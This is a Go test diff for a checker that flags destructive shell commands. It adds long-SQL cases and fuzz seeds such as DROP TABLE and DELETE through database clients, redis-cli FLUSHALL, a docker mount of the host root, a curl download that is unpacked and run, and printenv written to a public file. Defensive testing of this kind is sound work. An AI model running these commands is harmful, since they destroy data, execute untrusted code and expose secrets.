@@ -512,6 +512,9 @@ func TestDestructiveBoundedOnHostileInput(t *testing.T) {
 		{"nested subshells", strings.Repeat("(", n) + "ls" + strings.Repeat(")", n), ""},
 		{"nested functions", strings.Repeat("f(){ ", 60) + ":" + strings.Repeat("; }", 60), ""},
 		{"too many functions", strings.Repeat("f(){ :; };", shell.MaxFunctions+1), "command too complex to check"},
+		{"long SQL", "psql -c '" + strings.Repeat("select (1) where x = 'y'; ", n/3) + "'", ""},
+		{"long SQL without WHERE", "sqlite3 db '" + strings.Repeat("(", n) + " delete from t'",
+			"destroys data through a database client: sqlite3 DELETE without WHERE"},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
@@ -546,6 +549,12 @@ func FuzzDestructive(f *testing.F) {
 		`parallel 'rm {}' ::: a`, `parallel`, `ls | xargs -n1 unlink`, `cd; mv a b`,
 		`eval eval eval ls`, `git checkout -- .`, `kill -s TERM -- -1`, `deno eval`,
 		`flock -c`, `taskset`, `gawk -i inplace -e 'x' f.yml`,
+		// issue 47: escalation by effect
+		`git reset HEAD~3`, `sudo -u postgres psql -c 'DROP TABLE x'`, `psql <<< 'delete from t'`,
+		`mysql -uroot -p -e`, `sqlite3 db 'DELETE FROM t WHERE (1=1'`, `psql -c "x'y\!"`,
+		`docker run -itv/:/h --mount type=bind,src=/ a`, `docker exec db sh -c 'psql -c "drop table x"'`,
+		`curl -LO https://x/a.tgz && tar xf a.tgz && ./a/run`, `printenv | tee public/e`,
+		`apt-get -o x remove`, `systemctl`, `iptables -`, `redis-cli <<< FLUSHALL`, `docker run -v "$(pwd)":/s a`,
 	} {
 		f.Add(s)
 	}
